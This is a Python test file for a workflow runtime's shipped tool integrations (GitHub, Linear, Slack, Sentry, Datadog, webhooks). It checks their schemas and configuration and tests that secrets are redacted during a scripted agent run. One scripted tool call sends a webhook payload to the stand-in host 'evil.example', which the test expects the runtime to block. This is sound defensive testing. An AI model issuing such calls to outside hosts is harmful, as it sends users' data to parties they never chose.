"""The shipped skills: what they are, where they hold, and how a run with them goes, its secrets kept."""

import json
import os
from collections.abc import Iterator
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs

from callboard.actors.tools.tool import ToolCallContext, ToolEnvironment, ToolFailed
from callboard.actors.tools.toolbox import open_toolbox
from callboard.bus import events as ev
from callboard.bus.effects import PythonTools
from callboard.bus.events import Environment
from callboard.languages.json_schema import violations
from callboard.languages.language import Needs
from callboard.languages.skills.shipped import shipped_functions, shipped_ids, shipped_skill
from callboard.languages.skills.skill import aliases
from callboard.runtime.client.connection import open_connection
from callboard.runtime.settings.config import load
from callboard.service.worker.bootstrap import open_worker
from tests.support.service_api import TOKEN, Reply, ServiceApi, service_api
from tests.support.worker_processes import TENANT, say_start, until_end
from tests.support.workflows import admitted, document, run, run_elsewhere, scripted_skill

CATALOG = {
    "github": ("git", ["GITHUB_TOKEN"], ["GITHUB_API_URL"]),
    "linear": ("tasks", ["LINEAR_API_KEY"], ["LINEAR_API_URL"]),
    "slack": ("notification", [], ["SLACK_WEBHOOK_URL", "SLACK_BOT_TOKEN", "SLACK_API_URL"]),
    "sentry": ("observability", ["SENTRY_AUTH_TOKEN", "SENTRY_ORG"], ["SENTRY_BASE_URL"]),
    "datadog": ("observability", ["DD_API_KEY", "DD_APP_KEY"], ["DD_SITE", "DD_API_URL"]),
    "notification": (
        "notification",
        [],
        [
            "NOTIFICATION_WEBHOOK_URL",
            "NOTIFICATION_WEBHOOK_ALLOWED_HOSTS",
            "DISCORD_WEBHOOK_URL",
            "TEAMS_WEBHOOK_URL",
        ],
    ),
}
"""Category, required and optional configuration; each value has the variable of the same name."""

REPO = "acme/shop"
WHOLE: dict[str, dict[str, dict[str, Any]]] = {
    "github": {
        "github_search_code": {"query": "q", "repo": REPO},
        "github_get_issue": {"repo": REPO, "number": 1},
        "github_search_issues": {"query": "q", "repo": REPO},
        "github_create_issue": {"repo": REPO, "title": "T", "body": "B", "labels": ["x"]},
        "github_add_comment": {"repo": REPO, "issue_number": 1, "body": "B"},
        "github_create_pr": {"repo": REPO, "title": "T", "body": "B", "head": "h", "base": "b", "labels": ["x"]},
        "github_list_recent_commits": {"repo": REPO, "branch": "b", "per_page": 5},
        "github_get_file": {"repo": REPO, "path": "a", "ref": "r"},
    },
    "linear": {
        "linear_create_issue": {"teamId": "t", "title": "T", "description": "D", "priority": 1, "labelIds": ["l"]},
        "linear_search_issues": {"query": "q", "limit": 3},
        "linear_add_comment": {"issueId": "i1", "body": "B"},
        "linear_get_issue": {"id": "i1"},
        "linear_list_comments": {"issueId": "i1", "limit": 3},
        "linear_list_teams": {},
        "linear_list_labels": {"teamId": "t"},
        "linear_update_issue": {"issueId": "i1", "title": "T", "description": "D", "stateId": "s", "priority": 1},
    },
    "slack": {
        "slack_send_message": {"text": "T", "channel": "C", "blocks": [{}]},
        "slack_send_thread_reply": {"channel": "C", "thread_ts": "1", "text": "T"},
    },
    "sentry": {
        "sentry_list_issues": {"project": "p", "query": "q"},
        "sentry_get_issue": {"issueId": "1"},
        "sentry_get_issue_events": {"issueId": "1"},
        "sentry_search_events": {"project": "p", "query": "q", "fields": ["title"]},
    },
    "datadog": {
        "datadog_search_logs": {"query": "q", "from": "now-2h", "to": "now", "limit": 3},
        "datadog_query_metrics": {"query": "q", "from": 1, "to": 2},
        "datadog_list_monitors": {"name": "n", "tags": "t"},
    },
    "notification": {
        "notify_webhook": {"payload": {"a": 1}},
        "notify_discord": {"content": "C", "embeds": [{"title": "T", "fields": [{"name": "n", "inline": True}]}]},
        "notify_teams": {"title": "T", "text": "T", "themeColor": "000000"},
    },
}
"""Of every tool an input with all that its schema names (of `notify_webhook` without the address)."""

REQUIRED = {
    "github_search_code": ["query", "repo"],
    "github_get_issue": ["repo", "number"],
    "github_search_issues": ["query"],
    "github_create_issue": ["repo", "title"],
    "github_add_comment": ["repo", "issue_number", "body"],
    "github_create_pr": ["repo", "title", "head"],
    "github_list_recent_commits": ["repo"],
    "github_get_file": ["repo", "path"],
    "linear_create_issue": ["teamId", "title"],
    "linear_search_issues": ["query"],
    "linear_add_comment": ["issueId", "body"],
    "linear_get_issue": ["id"],
    "linear_list_comments": ["issueId"],
    "linear_update_issue": ["issueId"],
    "slack_send_message": ["text"],
    "slack_send_thread_reply": ["channel", "thread_ts", "text"],
    "sentry_list_issues": ["project"],
    "sentry_get_issue": ["issueId"],
    "sentry_get_issue_events": ["issueId"],
    "sentry_search_events": ["project", "fields"],
    "datadog_search_logs": ["query"],
    "datadog_query_metrics": ["query", "from", "to"],
    "notify_webhook": ["payload"],
    "notify_teams": ["text"],
}


@pytest.fixture
def api() -> Iterator[ServiceApi]:
    with service_api() as served:
        yield served


# -- what they are -----------------------------------------------------------------------------------------------------


def test_the_catalog() -> None:
    assert shipped_ids() == tuple(sorted(CATALOG))
    for name, (category, required, optional) in CATALOG.items():
        skill = shipped_skill(name)
        assert (skill.id, skill.category, skill.mcp) == (name, category, None)
        assert [key for key, field in skill.config.items() if field.required] == required
        assert [key for key, field in skill.config.items() if not field.required] == optional
        assert all(field.env == key for key, field in skill.config.items())
        assert [tool.name for tool in skill.tools] == list(WHOLE[name])
    with pytest.raises(KeyError):
        shipped_skill("../github")


def test_what_is_no_secret_is_an_address_or_a_name() -> None:
    fields = {key: field for name in shipped_ids() for key, field in shipped_skill(name).config.items()}
    told = {key for key, field in fields.items() if field.secret is False}
    addresses = {"GITHUB_API_URL", "LINEAR_API_URL", "SLACK_API_URL", "SENTRY_BASE_URL", "DD_API_URL"}
    assert told == {*addresses, "SENTRY_ORG", "DD_SITE", "NOTIFICATION_WEBHOOK_ALLOWED_HOSTS"}


def test_the_schemas_take_what_they_name_and_no_less() -> None:
    tools = {tool.name: tool.input_schema for name in shipped_ids() for tool in shipped_skill(name).tools}
    inputs = {name: given for of_skill in WHOLE.values() for name, given in of_skill.items()}
    assert len(inputs) == sum(len(shipped_skill(name).tools) for name in shipped_ids())
    for name, schema in tools.items():
        assert {*schema["properties"]} - {"url"} == {*inputs[name]}, name
        assert violations(schema, inputs[name]) == []
        assert schema.get("required", []) == REQUIRED.get(name, [])
        for member in schema["properties"].values():
            assert set(member) <= {"type", "description", "items"}


def test_tools_of_mcp_servers_count_as_the_same_where_that_is_certain() -> None:
    groups, contested = aliases([shipped_skill(name) for name in shipped_ids()])
    assert contested == []
    assert groups["create_pull_request"] == {"create_pull_request", "github_create_pr"}
    assert groups["linear_create_issue"] == {"save_issue", "linear_create_issue", "linear_update_issue"}
    assert "get_issue" not in groups


def test_each_file_is_a_skill_of_its_name() -> None:
    folder = files("callboard.languages.skills") / "shipped_skills"
    assert sorted(entry.name for entry in folder.iterdir()) == [f"{name}.yaml" for name in shipped_ids()]
    assert all(shipped_skill(name).id == name for name in shipped_ids())


# -- their tools, as a node opens them ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", CATALOG)
async def test_every_tool_answers_in_a_process_of_its_own(api: ServiceApi, name: str) -> None:
    skill = shipped_skill(name)
    functions = {tool.name: tool.python for tool in skill.tools if tool.python}
    config = {key: f"${{{key}}}" for key in skill.config if key in api.config}
    environment = ToolEnvironment(env={**os.environ, **api.config, "NO_PROXY": "127.0.0.1"})
    async with open_toolbox([PythonTools(functions, config)], environment) as toolbox:
        assert [spec.name for spec in toolbox.specs] == list(WHOLE[name])
        for number, (tool, given) in enumerate(WHOLE[name].items()):
            before = len(api.asked)
            context = ToolCallContext("r1", "a", f"key-{number}")
            # Arguments that a schema does not name are passed on, since services accept more of them.
            assert await toolbox.call(tool, {**given, "more": None}, context), tool
            assert len(api.asked) > before
        tool, given = next(iter(WHOLE[name].items()))
        api.instead = [Reply(404, {"message": f"no {TOKEN}"})]
        with capture_logs() as logged, pytest.raises(ToolFailed) as refused:
            await toolbox.call(tool, given, ToolCallContext("r1", "a", "key"))
        assert refused.value.failure.code == "tool.failed"
        assert "HTTP 404: no [secret]." in refused.value.failure.message.replace(" Not Found", "")
        assert TOKEN not in str(logged)


# -- where they hold ---------------------------------------------------------------------------------------------------

LISTS_GITHUB = document({"a": {"skills": ["github"]}})
HAS = {"GITHUB_TOKEN": "t"}


def test_a_skill_that_no_node_lists_is_not_asked_for() -> None:
    plan = admitted(document({"a": {"skills": ["slack"]}}))
    assert [skill["id"] for skill in plan.options["shipped"]] == ["slack"]
    assert plan.needs.skills["shipped:slack"] == []
    assert plan.needs.environment == ["SLACK_BOT_TOKEN", "SLACK_WEBHOOK_URL"]
    assert plan.warnings == ()
    assert "shipped" not in admitted(document({"a": {}})).options


def test_needs_name_what_is_required_and_what_is_secret() -> None:
    plan = admitted(LISTS_GITHUB)
    assert plan.needs == Needs(
        skills={"shipped:github": ["GITHUB_TOKEN"], "shipped:github.GITHUB_API_URL": ["GITHUB_API_URL"]},
        environment=["GITHUB_TOKEN"],
    )


def test_a_shipped_skill_offers_its_tools_where_the_worker_has_what_it_needs() -> None:
    ran = run(LISTS_GITHUB, env=HAS)
    assert ran.tools() == list(WHOLE["github"])
    [[source]] = ran.toolboxes()
    assert source["config"] == {"GITHUB_TOKEN": "${GITHUB_TOKEN}"}
    assert source["functions"]["github_get_issue"] == "callboard.actors.skills.github:get_issue"
    assert ran.warnings() == []


def test_without_its_configuration_the_run_goes_on_without_it() -> None:
    lacking = run(LISTS_GITHUB, env={})
    assert (lacking.end.status, lacking.tools(), lacking.warnings()) == ("completed", [], ["SKILL_UNAVAILABLE"])
    emptied = run(LISTS_GITHUB, options={"config": {"GITHUB_TOKEN": ""}}, env=HAS)
    assert (emptied.end.status, emptied.tools(), emptied.warnings()) == ("completed", [], ["SKILL_UNAVAILABLE"])


def test_the_start_messages_own_definition_holds_whole() -> None:
    own = run(LISTS_GITHUB, options={"skills": [scripted_skill("github", "look")]}, env=HAS)
    assert own.tools() == ["look"]


def test_a_workflows_own_skill_fills_the_gap_of_one_that_lacks_something() -> None:
    raw = document({"a": {"skills": ["github"]}}, skills={"github": {"instruction": "Use the gh program."}})
    there = run(raw, env=HAS)
    assert there.tools() == list(WHOLE["github"])
    assert "gh program" not in there.text("a#1.1!turn.1")
    lacking = run(raw, env={})
    assert (lacking.tools(), lacking.warnings()) == ([], [])
    assert "gh program" in lacking.text("a#1.1!turn.1")


def test_38_a_skill_file_gives_expertise_to_a_shipped_skill_whose_tools_stay() -> None:
    text = "---\nname: github\nconfig: {GH_HOST: {description: d}}\n---\nLabel every issue.\n"
    files = {".claude/skills/github/SKILL.md": text}
    there = {"shipped:github": True, "shipped:github.GITHUB_API_URL": False, "shipped:github.GH_HOST": True}
    environment = Environment(skills={**there, "github.GH_HOST": False})
    recorded = run(LISTS_GITHUB, files=files, env={**HAS, "GH_HOST": "github.example"})
    ran = run_elsewhere(recorded, environment)
    assert ran.tools() == list(WHOLE["github"])
    assert "Label every issue." in ran.text("a#1.1!turn.1")
    [[source]] = ran.toolboxes()
    assert source["config"] == {"GITHUB_TOKEN": "${GITHUB_TOKEN}", "GH_HOST": "${GH_HOST}"}
    lacking = run(LISTS_GITHUB, files=files, env={})
    assert lacking.tools() == []
    assert "Label every issue." in lacking.text("a#1.1!turn.1")


# -- a run -------------------------------------------------------------------------------------------------------------

WORKFLOW = document(
    {
        "look": {"skills": ["github", "sentry"], "tools": {"deny": ["github_create_pr"]}},
        "tell": {"skills": ["slack", "notification"]},
    },
    [("look", "tell")],
)


def wish(**calls: dict[str, Any]) -> dict[str, Any]:
    return {"tool_calls": [{"tool": tool, "input": given} for tool, given in calls.items()]}


SCRIPT: dict[str, Any] = {
    "turns": {
        "look": [
            wish(github_get_issue={"repo": REPO, "number": 42}),
            wish(github_create_issue={"repo": REPO, "title": "T"}),
            wish(github_get_issue={"repo": "nobody", "number": 1}),
            {"text": "looked"},
        ],
        "tell": [
            wish(slack_send_message={"text": "Hi.", "channel": "#ops"}),
            wish(notify_webhook={"payload": {"a": 1}, "url": "http://evil.example/"}),
            wish(notify_webhook={"payload": {"a": 1}}),
            {"text": "told"},
        ],
    }
}


async def test_a_run_with_shipped_skills_keeps_every_secret(api: ServiceApi, tmp_path: Path) -> None:
    api.instead = [
        Reply(body={"number": 42, "echo": f"Bearer {TOKEN}", "url": f"{api.url}/github/issues/42", TOKEN: [TOKEN]}),
        Reply(401, {"message": f"Bad credentials: {TOKEN}"}),
    ]
    config = {key: value for key, value in api.config.items() if key not in ("SENTRY_ORG", "NOTIFICATION_WEBHOOK_URL")}
    given = {"NOTIFICATION_WEBHOOK_URL": f"{api.url}/hook/{TOKEN}/{TOKEN}", "PATH": os.environ["PATH"]}
    settings = load({"data_dir": tmp_path / "data", "sync": "1s", "tenant": TENANT, "always_replay": True}, env={})
    message = {
        "definition": {"language": "workflow", "source": json.dumps(WORKFLOW)},
        "run_id": "with-skills",
        "model": "scripted",
        "script": SCRIPT,
    }
    async with open_connection(settings) as connection, open_worker(connection, env={**config, **given}):
        await say_start(connection.client, message)
        recorded = await until_end(connection.client, "with-skills")
    events = [item.event for item in recorded]
    payloads = [(event.type, json.loads(bytes(event.payload))) for event in events]
    assert TOKEN.encode() not in b"".join(item.data for item in recorded)

    [started] = [payload for kind, payload in payloads if kind == ev.RunStart.type]
    skills = started["environment"]["skills"]
    assert {name: there for name, there in skills.items() if "." not in name} == {
        "shipped:github": True,
        "shipped:notification": True,
        "shipped:sentry": False,
        "shipped:slack": True,
    }
    assert skills["shipped:notification.TEAMS_WEBHOOK_URL"] is True
    assert [skill["id"] for skill in started["options"]["shipped"]] == ["github", "notification", "sentry", "slack"]
    assert [p["code"] for kind, p in payloads if kind == ev.NodeWarning.type] == ["SKILL_UNAVAILABLE"]
    results = [payload for kind, payload in payloads if kind == ev.ToolResult.type]
    found, refused, unnamed, sent, elsewhere, notified = results
    assert found["output"]["echo"].startswith("Bearer [secret:")
    # An address is not a secret, so links of a service stay as they are.
    assert found["output"]["url"] == f"{api.url}/github/issues/42"
    assert "GITHUB_TOKEN is not accepted" in refused["error"]["message"]
    assert "is not a repository" in unnamed["error"]["message"]
    assert sent["output"]["ok"] is True
    assert "Nothing may be sent to evil.example" in elsewhere["error"]["message"]
    assert notified["output"] == {"ok": True, "status": 200}
    end = payloads[-1][1]
    assert (end["status"], end["output"]) == ("completed", {"summary": "told"})
    keys = {asked.headers["idempotency-key"] for asked in api.asked if asked.path.startswith("/hook")}
    assert len(keys) == 1
    assert all(len(key) > 20 for key in keys)


def test_the_functions_of_the_skills_are_those_of_their_tools() -> None:
    tools = [tool for skill_id in shipped_ids() for tool in shipped_skill(skill_id).tools]
    assert shipped_functions() == tuple(tool.python for tool in tools if tool.python)
